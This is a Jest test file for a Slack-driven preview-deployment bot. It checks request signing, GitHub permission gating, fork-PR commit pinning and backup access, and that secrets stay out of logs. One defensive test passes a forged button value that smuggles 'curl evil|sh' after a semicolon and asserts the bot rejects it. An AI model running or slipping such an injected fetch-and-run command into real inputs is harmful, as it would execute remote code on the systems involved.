/**
 * The Slack door through Bolt's real receiver and the real intake (its gate asks the GitHub API on nock: the config on
 * the default branch, the pull request, the collaborator permission). What reaches the queue is recorded, not run;
 * test/e2e/doors-slack.test.ts runs whole jobs.
 */
import { describe, it, expect, beforeAll, beforeEach, afterAll, afterEach } from "@jest/globals";
import { Writable } from "node:stream";
import nock from "nock";
import { ProbotOctokit } from "probot";
import { createSlackApp } from "../../src/handlers/slack.js";
import { createIntake } from "../../src/intake/gate.js";
import { createLogger } from "../../src/logger.js";
import { MemoryHeadLog } from "../../src/services/github/head-log.js";
import type { EnqueueOptions } from "../../src/services/jobs/queue.js";
import type {
  BackupJob,
  BackupReads,
  PreviewDirectory,
  PreviewJob,
  PreviewSummary,
} from "../../src/services/shared/dispatch.js";
import { blockActionBody, listen, postForm, signSlack, slashCommandBody, type TestServer } from "../support/slack.js";

const SECRET = "8f742231b10e8888abcd99yyyzzz85a5";
const RESPONSE_URL = "https://hooks.slack.com/commands/T0TEAM/1/abc";
const GITHUB = "https://api.github.com";
const TestOctokit = ProbotOctokit.defaults({ retry: { enabled: false }, throttle: { enabled: false } });

/** What the intake put on the queue; `hold()` makes the next enqueues wait until released. */
class RecordingQueue {
  readonly jobs: Array<EnqueueOptions<PreviewJob | BackupJob>> = [];
  private gate: Promise<void> | undefined;
  private open: (() => void) | undefined;
  hold(): void {
    this.gate = new Promise((resolve) => (this.open = resolve));
  }
  release(): void {
    this.open?.();
  }
  async enqueue(options: EnqueueOptions<PreviewJob | BackupJob>): Promise<{ jobId: string; deduplicated: boolean }> {
    this.jobs.push(options);
    await this.gate;
    return { jobId: `job-${this.jobs.length}`, deduplicated: false };
  }
  previews(): PreviewJob[] {
    return this.jobs.filter((j) => j.kind === "preview").map((j) => j.payload as PreviewJob);
  }
  backups(): BackupJob[] {
    return this.jobs.filter((j) => j.kind === "backup").map((j) => j.payload as BackupJob);
  }
}

const ready: PreviewSummary = {
  key: "acme/web#42",
  owner: "acme",
  repo: "web",
  number: 42,
  state: "ready",
  url: "https://pr-42.preview.example.com/",
  title: "Checkout <b>",
  sha: "d".repeat(40),
};
const directory: PreviewDirectory = {
  list: async (filter) => [ready].filter((p) => !filter?.owner || (p.owner === filter.owner && p.repo === filter.repo)),
  get: async (key) => (key.owner === "acme" && key.repo === "web" && key.number === 42 ? ready : undefined),
};
/** acme/web#42 is a fork PR whose head moved on from the deployed commit; #43 is a PR from a branch. */
const HEAD = "e".repeat(40);

const identities = new Map([
  ["U0WES", "wes-write"],
  ["U0RITA", "rita-read"],
  ["U0MO", "mo-maintain"],
  ["U0ADA", "ada-admin"],
]);
const ROLES: Record<string, { permission: string; role_name: string }> = {
  "wes-write": { permission: "write", role_name: "write" },
  "rita-read": { permission: "read", role_name: "read" },
  "mo-maintain": { permission: "write", role_name: "maintain" },
};

let server: TestServer;
let queue: RecordingQueue;
/** Backups the door lists: shop has one; ledger none. */
const backups: BackupReads = {
  ofPreview: async () => [],
  targets: () => ["shop", "ledger"],
  ofTarget: async (name) =>
    name === "shop" ? [{ name: "shop/shop-20261126T060000000Z.dump", createdAt: "2026-11-26T06:00:00.000Z" }] : [],
};
const logLines: string[] = [];

/** GitHub as the gate reads it, for every test: acme/web is enrolled, #42 a fork PR, #43 a branch PR. */
function repository(): void {
  nock(GITHUB)
    .persist()
    .get("/repos/acme/web/contents/.github%2Fpreview.yml")
    .reply(200, "manifests:\n  path: k8s\n")
    .get("/repos/acme/web/pulls/42")
    .reply(200, pullBody(42, HEAD, true))
    .get("/repos/acme/web/pulls/43")
    .reply(200, pullBody(43, "c".repeat(40), false));
}

function pullBody(number: number, sha: string, fork: boolean) {
  return {
    number,
    state: "open",
    title: "Checkout",
    draft: false,
    labels: [],
    html_url: `https://github.com/acme/web/pull/${number}`,
    user: { login: "someone" },
    head: { ref: "feature", sha, repo: { full_name: fork ? "someone/web" : "acme/web" } },
    base: { ref: "main", repo: { full_name: "acme/web" } },
  };
}

beforeAll(async () => {
  nock.disableNetConnect();
  nock.enableNetConnect((host) => host.startsWith("127.0.0.1"));
  queue = new RecordingQueue();
  const logger = createLogger({
    level: "debug",
    destination: new Writable({
      write(c, _e, cb) {
        logLines.push(String(c));
        cb();
      },
    }),
  });
  const intake = createIntake({
    enqueue: (job) => queue.enqueue(job),
    github: {
      octokitFor: async () => new TestOctokit({ auth: { token: "ghs_0000000000000000000000000000000000" } }),
      installationOf: async () => 1,
    },
    heads: new MemoryHeadLog(),
    // shop's data may go to acme/web; ledger names no repository (bot admins only).
    targets: { names: () => ["shop", "ledger"], allowedRepos: (name) => (name === "shop" ? ["acme/web"] : undefined) },
    admins: ["ada-admin"],
    logger,
  });
  const { requestListener } = createSlackApp({
    signingSecret: SECRET,
    botToken: "xoxb-0000000000-testtoken",
    botId: "B0BOT",
    botUserId: "U0BOT",
    intake,
    directory,
    identities,
    backups,
    logger,
    clientOptions: { retryConfig: { retries: 0 } },
  });
  server = await listen(requestListener);
});

beforeEach(() => repository());

afterEach(() => {
  nock.cleanAll();
  queue.jobs.length = 0;
});

afterAll(async () => {
  await server.close();
  nock.enableNetConnect();
  nock.restore(); // the next test file in this worker loads its own nock
});

/** Signs and posts a body to /slack/events. */
function send(body: string, headers: Record<string, string> = signSlack(SECRET, body)) {
  return postForm(`${server.url}/slack/events`, body, headers);
}

/** Resolves with the JSON Bolt posts to the response_url (the ephemeral answer). */
function nextResponse(url = RESPONSE_URL): Promise<{ text: string; response_type?: string; blocks?: unknown[] }> {
  const { origin, pathname } = new URL(url);
  return new Promise((resolve) => {
    nock(origin)
      .post(pathname, (body: { text: string }) => {
        resolve(body);
        return true;
      })
      .reply(200, "ok");
  });
}

function permission(login: string): nock.Scope {
  return nock(GITHUB).get(`/repos/acme/web/collaborators/${login}/permission`).reply(200, ROLES[login]!);
}

describe("Slack /preview slash command", () => {
  it("acks at once, then queues a permitted deploy and answers ephemerally", async () => {
    queue.hold();
    const github = permission("wes-write");
    const answer = nextResponse();
    const res = await send(slashCommandBody({ user_id: "U0WES", text: "deploy acme/web#43" }));
    expect(res.status).toBe(200);
    expect(res.body).toBe(""); // the ack: sent while the dispatch below is still held
    await waitFor(() => queue.jobs.length === 1);
    queue.release();
    expect(queue.jobs[0]).toMatchObject({ kind: "preview", key: "acme/web#43", supersedes: true });
    expect(queue.previews()[0]).toEqual({
      installationId: 1,
      action: "deploy",
      owner: "acme",
      repo: "web",
      number: 43,
      actor: "wes-write",
      source: "slack",
      trigger: "Slack /preview deploy by @wes-write",
      slack: { channel: "C0CHAN", user: "U0WES", responseUrl: RESPONSE_URL },
    });
    const reply = await answer;
    expect(reply).toMatchObject({
      response_type: "ephemeral",
      text: expect.stringContaining("Queued `deploy` for acme/web#43"),
    });
    expect(github.isDone()).toBe(true);
  });

  it("refuses a bad signature with 401 and does nothing", async () => {
    const body = slashCommandBody({ user_id: "U0WES", text: "deploy acme/web#42" });
    const res = await send(body, signSlack("not-the-secret", body));
    expect(res.status).toBe(401);
    const tampered = await send(body.replace("42", "43"), signSlack(SECRET, body));
    expect(tampered.status).toBe(401);
    expect(queue.jobs).toEqual([]);
  });

  it("refuses a correctly signed but stale request (over 5 minutes old) with 401", async () => {
    const body = slashCommandBody({ user_id: "U0WES", text: "deploy acme/web#42" });
    const res = await send(body, signSlack(SECRET, body, Math.floor(Date.now() / 1000) - 6 * 60));
    expect(res.status).toBe(401);
    expect(queue.jobs).toEqual([]);
  });

  it("refuses an unmapped Slack user, explaining how to get mapped, without asking GitHub or dispatching", async () => {
    const answer = nextResponse();
    const res = await send(slashCommandBody({ user_id: "U0STRANGER", text: "destroy acme/web#42" }));
    expect(res.status).toBe(200);
    expect((await answer).text).toMatch(/don't know your GitHub account.*map your Slack user.*U0STRANGER/);
    expect(queue.jobs).toEqual([]);
  });

  it("refuses a read-only user", async () => {
    const github = permission("rita-read");
    const answer = nextResponse();
    await send(slashCommandBody({ user_id: "U0RITA", text: "deploy acme/web#43" }));
    expect((await answer).text).toMatch(/`deploy` needs write access.*you have read/);
    expect(github.isDone()).toBe(true);
    expect(queue.jobs).toEqual([]);
  });

  it("queues a target's backup for someone with backup permission on one of its allowed repositories, and lists it", async () => {
    const github = permission("wes-write")
      .get("/repos/acme/web/collaborators/wes-write/permission")
      .reply(200, ROLES["wes-write"]!);
    let answer = nextResponse();
    await send(slashCommandBody({ user_id: "U0WES", text: "backup shop" }));
    expect((await answer).text).toMatch(/Queued `backup` for `shop`\. I'll answer here when it's done\./);
    expect(queue.jobs).toMatchObject([{ kind: "backup", key: "backup shop" }]);
    expect(queue.backups()).toEqual([
      {
        target: "shop",
        trigger: "Slack /preview backup by @wes-write",
        slack: { channel: "C0CHAN", user: "U0WES", responseUrl: RESPONSE_URL },
      },
    ]);
    answer = nextResponse();
    await send(slashCommandBody({ user_id: "U0WES", text: "backups shop" }));
    expect((await answer).text).toContain("shop/shop-20261126T060000000Z.dump");
    expect(github.isDone()).toBe(true);
  });

  it("refuses a backup target to a reader of its repositories, to anyone but an admin when it names none, and to unmapped users", async () => {
    const github = permission("rita-read");
    let answer = nextResponse();
    await send(slashCommandBody({ user_id: "U0RITA", text: "backup shop" }));
    expect((await answer).text).toMatch(
      /to back it up `shop` you need `write` access to one of the repositories allowed to use it \(acme\/web\)/,
    );
    expect(github.isDone()).toBe(true);
    answer = nextResponse();
    await send(slashCommandBody({ user_id: "U0MO", text: "backups ledger" }));
    expect((await answer).text).toMatch(
      /`ledger` names no allowed repositories, so only preview-bot admins can list its backups/,
    );
    answer = nextResponse();
    await send(slashCommandBody({ user_id: "U0ADA", text: "backup ledger" }));
    expect((await answer).text).toMatch(/Queued `backup` for `ledger`/);
    answer = nextResponse();
    await send(slashCommandBody({ user_id: "U0WES", text: "backup orders" }));
    expect((await answer).text).toMatch(/`orders` is not a backup target here; known: `shop`, `ledger`/);
    answer = nextResponse();
    await send(slashCommandBody({ user_id: "U0STRANGER", text: "backup shop" }));
    expect((await answer).text).toMatch(/don't know your GitHub account/);
    expect(queue.backups().map((b) => b.target)).toEqual(["ledger"]); // only the admin's
    expect(queue.previews()).toEqual([]);
  });

  it("answers help and parse errors in the ack itself", async () => {
    const help = await send(slashCommandBody({ text: "" }));
    expect(JSON.parse(help.body)).toMatchObject({
      response_type: "ephemeral",
      text: expect.stringContaining("list [owner/repo]"),
    });
    const typo = await send(slashCommandBody({ text: "deplyo acme/web#42" }));
    expect(JSON.parse(typo.body).text).toContain('Did you mean "/preview deploy"?');
  });

  it("lists previews and shows one's status from the directory to a reader, escaping PR text", async () => {
    permission("rita-read")
      .get("/repos/acme/web/collaborators/rita-read/permission")
      .times(2)
      .reply(200, ROLES["rita-read"]!);
    let answer = nextResponse();
    await send(slashCommandBody({ user_id: "U0RITA", text: "list acme/web" }));
    expect((await answer).text).toContain("<https://pr-42.preview.example.com/|open>");
    answer = nextResponse();
    await send(slashCommandBody({ user_id: "U0RITA", text: "status acme/web#42" }));
    const status = await answer;
    expect(JSON.stringify(status.blocks)).toContain("Checkout &lt;b&gt;");
    answer = nextResponse();
    await send(slashCommandBody({ user_id: "U0RITA", text: "status acme/web#7" }));
    expect((await answer).text).toBe("No preview for acme/web#7.");
  });

  it("shows neither the list nor a status to a Slack user it cannot map to GitHub", async () => {
    for (const text of ["list", "status acme/web#42"]) {
      const answer = nextResponse();
      await send(slashCommandBody({ user_id: "U0STRANGER", text }));
      const reply = (await answer).text;
      expect(reply).toMatch(/don't know your GitHub account/);
      expect(reply).not.toContain("pr-42.preview.example.com");
    }
  });

  it("makes a fork PR's deploy name its commit: a confirmation button for the head, and only the head", async () => {
    permission("mo-maintain")
      .get("/repos/acme/web/collaborators/mo-maintain/permission")
      .times(3)
      .reply(200, ROLES["mo-maintain"]!);
    let answer = nextResponse();
    await send(slashCommandBody({ user_id: "U0MO", text: "deploy acme/web#42" }));
    const confirm = await answer;
    expect(confirm.text).toMatch(/comes from a fork: a deploy must name the reviewed commit\. The head is `eeeeeee`/);
    // The button names the whole head commit; pressing it deploys exactly that.
    expect(JSON.stringify(confirm.blocks)).toContain(`"value":"deploy acme/web#42 ${HEAD}"`);
    expect(queue.jobs).toEqual([]);
    const url = "https://hooks.slack.com/actions/T0TEAM/9/xyz";
    answer = nextResponse(url);
    await send(
      blockActionBody({
        userId: "U0MO",
        actionId: "preview:deploy",
        value: `deploy acme/web#42 ${HEAD}`,
        responseUrl: url,
      }),
    );
    expect((await answer).text).toContain(
      "Queued `deploy` for acme/web#42 at `eeeeeee` (exactly that commit: the pull request comes from a fork)",
    );
    answer = nextResponse();
    await send(slashCommandBody({ user_id: "U0MO", text: "deploy acme/web#42 ddddddd" }));
    expect((await answer).text).toMatch(
      /`ddddddd` is not the head of this pull request \(the head is `eeeeeee`\), so nothing was deployed/,
    );
    expect(queue.previews().map((r) => [r.action, r.sha])).toEqual([["deploy", HEAD]]);
  });
});

describe("Slack buttons", () => {
  it("queues destroy from the button for a maintainer", async () => {
    const github = permission("mo-maintain");
    const url = "https://hooks.slack.com/actions/T0TEAM/2/def";
    const answer = nextResponse(url);
    const res = await send(
      blockActionBody({ userId: "U0MO", actionId: "preview:destroy", value: "destroy acme/web#42", responseUrl: url }),
    );
    expect(res.status).toBe(200);
    expect((await answer).text).toContain("Queued `destroy` for acme/web#42");
    expect(queue.previews()).toMatchObject([
      { action: "destroy", owner: "acme", repo: "web", number: 42, actor: "mo-maintain", source: "slack" },
    ]);
    expect(github.isDone()).toBe(true);
  });

  it("re-checks permission on the button: a writer cannot destroy", async () => {
    const github = permission("wes-write");
    const url = "https://hooks.slack.com/actions/T0TEAM/3/ghi";
    const answer = nextResponse(url);
    await send(
      blockActionBody({ userId: "U0WES", actionId: "preview:destroy", value: "destroy acme/web#42", responseUrl: url }),
    );
    expect((await answer).text).toMatch(/needs maintain/);
    expect(github.isDone()).toBe(true);
    expect(queue.jobs).toEqual([]);
  });

  it("extends via the button and answers with chat.postEphemeral when there is no response_url", async () => {
    permission("wes-write");
    const posted = new Promise<Record<string, string>>((resolve) => {
      nock("https://slack.com")
        .post("/api/chat.postEphemeral", (b: Record<string, string>) => {
          resolve(b);
          return true;
        })
        .reply(200, { ok: true, message_ts: "1.2" });
    });
    await send(blockActionBody({ userId: "U0WES", actionId: "preview:extend", value: "extend acme/web#42 3d" }));
    expect(await posted).toMatchObject({
      channel: "C0CHAN",
      user: "U0WES",
      text: expect.stringContaining("Queued `extend 3d`"),
    });
    expect(queue.previews()).toMatchObject([{ action: "extend", ttlMs: 3 * 24 * 3_600_000, actor: "wes-write" }]);
  });

  it("ignores a forged button value", async () => {
    const url = "https://hooks.slack.com/actions/T0TEAM/4/jkl";
    const answer = nextResponse(url);
    await send(
      blockActionBody({
        userId: "U0MO",
        actionId: "preview:redeploy",
        value: "redeploy acme/web#42; curl evil|sh",
        responseUrl: url,
      }),
    );
    expect((await answer).text).toBe("Sorry, I could not read that button.");
    expect(queue.jobs).toEqual([]);
  });

  it("never logs the bot token or signing secret", () => {
    const all = logLines.join("");
    expect(all).not.toContain("xoxb-0000000000-testtoken");
    expect(all).not.toContain(SECRET);
  });
});

async function waitFor(check: () => boolean, ms = 60_000): Promise<void> {
  const until = Date.now() + ms;
  while (!check()) {
    if (Date.now() > until) throw new Error("condition not met in time");
    await new Promise((r) => setTimeout(r, 10));
  }
}
